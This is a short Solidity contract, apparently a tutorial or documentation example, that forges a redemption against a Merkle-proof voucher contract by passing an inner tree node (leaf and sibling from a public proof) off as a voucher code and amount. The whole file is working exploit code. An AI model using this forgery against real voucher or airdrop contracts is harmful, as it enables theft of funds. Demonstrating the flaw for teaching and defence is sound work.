// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Vouchers} from "./Vouchers.sol";

// #region contract
/// Redeems an inner node, using only what one honest redemption has shown to everyone.
contract Forger {
    function attack(Vouchers vouchers, bytes32 code, uint256 amount, bytes32[] calldata proof) external {
        bytes32 leaf = vouchers.leafOf(code, amount);
        bytes32 sibling = proof[0];
        (bytes32 low, bytes32 high) = leaf < sibling ? (leaf, sibling) : (sibling, leaf);
        vouchers.redeem(low, uint256(high), proof[1:]);
    }

    /// The same with voucher 0 of the example.
    function attackFirst(Vouchers vouchers) external {
        this.attack(vouchers, vouchers.codeOf(0), 100, vouchers.proofOf(0));
    }
}
// #endregion contract
